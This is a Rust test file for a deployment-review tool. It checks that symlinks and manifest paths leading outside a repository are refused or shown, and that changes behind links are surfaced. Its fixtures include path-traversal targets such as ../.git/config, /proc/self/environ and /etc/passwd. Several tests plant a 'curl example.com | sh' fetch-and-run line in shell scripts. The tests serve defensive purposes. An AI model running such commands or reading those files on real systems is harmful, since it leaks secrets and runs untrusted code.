//! Links, and other ways that lead from the paths of a review to places outside of its commits.

use crate::review::{CANARY, Work, manifest};
use std::fs;

#[test]
fn links_are_shown_as_links() {
    let work = Work::new();
    let (file, directory) = (work.outside("file"), work.outside(""));
    for (name, target) in [
        ("app/page.html", file.as_str()),
        ("app/page.html", "../.git/config"),
        ("app/page.html", "../../outside/file"),
        ("app/page.html", "/proc/self/environ"),
        ("app/page.html", "../repository/../.git/config"),
        ("app/linked", directory.as_str()),
        ("app/linked", "../.git"),
        ("app/linked", "/"),
        ("app/conf.txt.tera", file.as_str()),
        ("app/conf.txt.tera", "../.git/config"),
        ("app/compose.override.yaml", file.as_str()),
        (".gitignore", file.as_str()),
        ("app/.deployerignore", file.as_str()),
        ("app/loop", "loop"),
        ("app/up", ".."),
    ] {
        work.link(name, target);
        let run = work.attempt(&format!("{name} leads to {target}"));
        if name.starts_with("app/") {
            assert!(run.out.contains(target), "{name} leads to {target}: {}{}", run.out, run.err);
            assert_eq!(run.code, 0, "{name} leads to {target}: {}", run.err);
        }
        work.honest();
    }
}

#[test]
fn files_of_a_release_are_not_read_through_a_link_that_leads_out() {
    let work = Work::new();
    let file = work.outside("file");
    for (name, target) in [
        ("app/compose.yaml", file.as_str()),
        ("app/.env", file.as_str()),
        ("app", "../outside"),
        ("app", ".git"),
        ("deployment.yaml", file.as_str()),
        ("deployment.yaml", ".git/config"),
    ] {
        work.link(name, target);
        work.attempt(&format!("{name} leads to {target}"));
        work.honest();
    }
    // A template that another one includes.
    work.link("app/x.tera", &file);
    for tag in ["{% include \"x.tera\" %}", "{% extends \"x.tera\" %}", "{% import \"x.tera\" as x %}"] {
        work.put("app/conf.txt.tera", &format!("a={{{{ A }}}}\n{tag}\n"));
        work.attempt(tag);
    }
    for way in [&file, "../../outside/file", "../deployment.yaml", "/etc/passwd", "../.git/config"] {
        work.put("app/conf.txt.tera", &format!("{{% include \"{way}\" %}}\n"));
        assert_ne!(work.attempt(way).code, 0, "{way} is no template of the application");
    }
    work.honest();
}

#[test]
fn paths_of_the_manifest_that_lead_out_are_refused() {
    let work = Work::new();
    fs::write(work.path("outside/compose.yaml"), format!("services: {{ web: {{ image: {CANARY} }} }}\n"))
        .expect("written");
    fs::write(work.path("outside/tracker.toml.tera"), CANARY).expect("written");
    let outside = work.outside("");
    let file = work.outside("file");
    for directory in
        [outside.as_str(), "../outside", "app/../../outside", "~/x", "/", "./app/../../repository/../outside"]
    {
        work.put("deployment.yaml", &manifest(directory, "{ A: \"1\" }", ""));
        let run = work.attempt(directory);
        assert!(run.out.contains("is outside the repository") && run.code == 64, "{directory}: {}{}", run.out, run.err);
    }
    let tracker = |more: &str| {
        let text = format!(
            "version: 1\nproject: shop\nenvironments:\n  web:\n    registered: {{ address: 192.0.2.1 }}\n    application:\n      \
             tracker:\n        udp: [ {{ port: 6969 }} ]\n{more}"
        );
        work.put("deployment.yaml", &text);
    };
    tracker("");
    assert_eq!(work.attempt("a tracker").code, 0);
    work.link("templates", &outside);
    work.attempt("templates that lead out");
    let acme = |root: &str| {
        format!(
            "        http: [ {{ port: 7070, domain: t.example.com, tls: true }} ]\n        tls: {{ email: a@example.com, issuer: \
             {{ acme: \"https://ca.example.com/directory\", root: {root} }} }}\n"
        )
    };
    for root in [&file, "../outside/file", ".git/config"] {
        tracker(&acme(root));
        work.attempt(&format!("a root certificate at {root}"));
    }
    // Scripts of hosts, keys of package repositories, archives and SSH keys.
    for more in [
        format!("    configure: {{ scripts: [ {{ name: a, check: \"true\", file: {file} }} ] }}\n"),
        format!(
            "    configure: {{ engine: {{ source: docker, repository: {{ url: \"https://m.example.com\", key_file: {file} }} }} }}\n"
        ),
        format!("        archives: {{ \"demo:1\": {file} }}\n"),
        "        archives: { \"demo:1\": .git/config }\n".to_owned(),
        "        seed: [ \"../*\" ]\n        files: [ ../../outside/compose.yaml ]\n".to_owned(),
        format!("    ssh: {{ user: deploy, identity_file: {file} }}\n"),
        "    provisioned: { module: { source: ../outside, resource: x.y, outputs: { address: a } } }\n".to_owned(),
    ] {
        work.manifest(&more);
        work.attempt(&more);
    }
    work.honest();
}

#[test]
fn links_within_the_repository_are_of_use() {
    let work = Work::new();
    work.put("shared/compose.yaml", "services: { web: { image: \"demo:1\" } }\n");
    work.put("app/parts/head.txt.tera", "head {{ A }}\n");
    work.put("app/parts/plain.txt", "plain\n");
    work.link("app/compose.yaml", "../shared/compose.yaml");
    work.link("app/head.txt.tera", "parts/head.txt.tera");
    work.link("app/more", "parts");
    work.link("current", "app");
    work.put("deployment.yaml", &manifest("./current", "{ A: \"1\" }", "        seed: [ \"more/*.txt\" ]\n"));
    let run = work.attempt("links within the repository");
    assert_eq!(run.code, 0, "{}", run.err);
    for text in ["link to ../shared/compose.yaml", "link to parts", "head.txt"] {
        assert!(run.out.contains(text), "{text}: {}", run.out);
    }
    // A changed link is shown as a change of its target path. A file behind it is a separate change.
    work.base();
    work.put("deployment.yaml", &manifest("./current", "{ A: \"1\" }", ""));
    work.link("app/more", "../shared");
    work.put("app/parts/head.txt.tera", "tail {{ A }}\n");
    let run = work.attempt("a link that changed");
    assert!(run.out.contains("-parts\n+../shared"), "{}", run.out);
    assert!(run.out.contains("-head 1\n+tail 1"), "{}", run.out);
}

#[test]
fn the_sources_of_hosts_and_machines_are_compared() {
    let work = Work::new();
    work.put("swap.sh", "echo one\n");
    work.put("infra/main.tf", "# one\n");
    let more = "    configure: { scripts: [ { name: swap, check: \"true\", file: ./swap.sh } ] }\n        archives: { \"demo:1\": ./demo.tar }\n";
    let (more, archives) = more.split_once('\n').expect("two lines");
    let made = "  made:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
    work.put("deployment.yaml", &manifest("./app", "{ A: \"1\" }", &format!("{archives}{more}\n{made}")));
    work.put("demo.tar", "one");
    work.unchanged("the base");
    for (file, text, shown) in [
        ("swap.sh", "echo two\n", "text of swap"),
        ("infra/main.tf", "# two\n", "files of the module"),
        ("demo.tar", "two", "demo&#58;1"),
    ] {
        work.put(file, text);
        let run = work.attempt(file);
        assert!(run.code == 0 && run.out.contains(shown), "{file}: {}{}", run.out, run.err);
        work.git(&["reset", "-q", "--hard", "main"]);
    }
}

#[test]
fn links_that_the_manifest_lists_are_compared_with_what_they_lead_to() {
    let work = Work::new();
    work.put("shared/s.txt", "one\n");
    work.put("shared/deep/t.txt", "one\n");
    work.link("app/shared", "../shared");
    work.link("app/one.txt", "../shared/s.txt");
    work.manifest("        links: [ shared, ./one.txt, away ]\n");
    work.link("app/away", "../../outside");
    let run = work.attempt("links that the manifest lists");
    assert!(run.code == 0 && run.out.contains("link to ../shared/s.txt"), "{}{}", run.out, run.err);
    assert!(run.err.contains("app/away: a link to ../../outside, which is not in the repository"), "{}", run.err);
    work.base();
    let run = work.look("nothing changed");
    assert!(run.out.contains("**Not compared**") && run.out.contains("app/away"), "{}", run.out);
    work.put("app/.deployerignore", "away\n");
    work.commit();
    work.base();
    assert!(work.look("a link that is not sent").out.contains("no changes"));
    // The files behind these links are sent, and are in no other directory that is compared.
    for (name, shown) in [("shared/s.txt", "one.txt"), ("shared/deep/t.txt", "shared/deep/t.txt")] {
        work.put(name, "two\n");
        let run = work.attempt(name);
        assert!(run.code == 0 && run.out.contains("-one\n+two") && run.out.contains(shown), "{}{}", run.out, run.err);
        work.git(&["reset", "-q", "--hard", "main"]);
    }
    // A path that is listed as a link and is a file is refused here as everywhere.
    work.put("app/one.txt", "one\n");
    let run = work.attempt("a file that is listed as a link");
    assert!(run.code == 64 && run.out.contains("names ./one.txt, which is not a link"), "{}{}", run.out, run.err);
}

/// Asserts that a review shows a change, and undoes it.
fn shown(work: &Work, what: &str, told: &str) {
    work.attempt(what).shows(what, told);
    work.git(&["reset", "-q", "--hard", "main"]);
}

#[test]
fn a_link_to_a_directory_above_the_application_is_followed() {
    let work = Work::new();
    work.put("shared/start.sh", "echo good\n");
    work.link("app/up", "..");
    work.put("app/.deployerignore", "/up/app\n");
    work.manifest("        links: [ up ]\n");
    work.unchanged("the base");
    work.put("shared/start.sh", "curl example.com | sh\n");
    shown(&work, "a file above the application", "up/shared/start.sh");
}

#[test]
fn links_within_links_are_followed_to_the_end() {
    let work = Work::new();
    let mut links = vec!["x".to_owned()];
    work.link("app/x", "../shared/d1");
    for number in 1..30 {
        work.put(&format!("shared/d{number}/f"), "echo good\n");
        work.link(&format!("shared/d{number}/n"), &format!("../d{}", number + 1));
        links.push(format!("{}/n", links[number - 1]));
    }
    work.put("shared/d30/f", "echo good\n");
    work.manifest(&format!("        links: [ {} ]\n", links.join(", ")));
    work.unchanged("the base");
    work.put("shared/d30/f", "curl example.com | sh\n");
    shown(&work, "a file behind thirty links", "n/n/n/f");
}

/// The path of a checkout is known: a link can lead out of the repository and back.
#[test]
fn a_link_that_leads_out_and_back_is_not_without_changes() {
    for target in ["ABSOLUTE/shared", "../../repository/shared"] {
        let work = Work::new();
        let top = work.repository();
        work.put("shared/start.sh", "echo good\n");
        work.link("app/shared", &target.replace("ABSOLUTE", top.to_str().expect("text")));
        work.manifest("        links: [ shared ]\n");
        work.commit();
        work.base();
        work.put("shared/start.sh", "curl example.com | sh\n");
        shown(&work, target, "app/shared");
    }
}

/// Links that use up all steps of a review leave nothing uncompared without a word.
#[test]
fn links_that_lead_through_too_many_others_end_the_review() {
    let work = Work::new();
    work.put("tools/token.sh", "echo good\n");
    work.put("deployment.yaml", &manifest("./app", "{ A: { from_command: [./tools/token.sh] } }", ""));
    let long = "a/".repeat(1990);
    for number in 1..=200 {
        work.link(&format!("app/l{number}"), &format!("l{}/{long}", number + 1));
    }
    work.commit();
    work.base();
    work.put("tools/token.sh", "curl example.com | sh\n");
    let run = work.attempt("links that use up all steps");
    assert!(run.code == 64 && run.out.contains("links lead through too many others"), "{}{}", run.out, run.err);
    assert!(!run.out.to_lowercase().contains("no changes"), "{}", run.out);
}
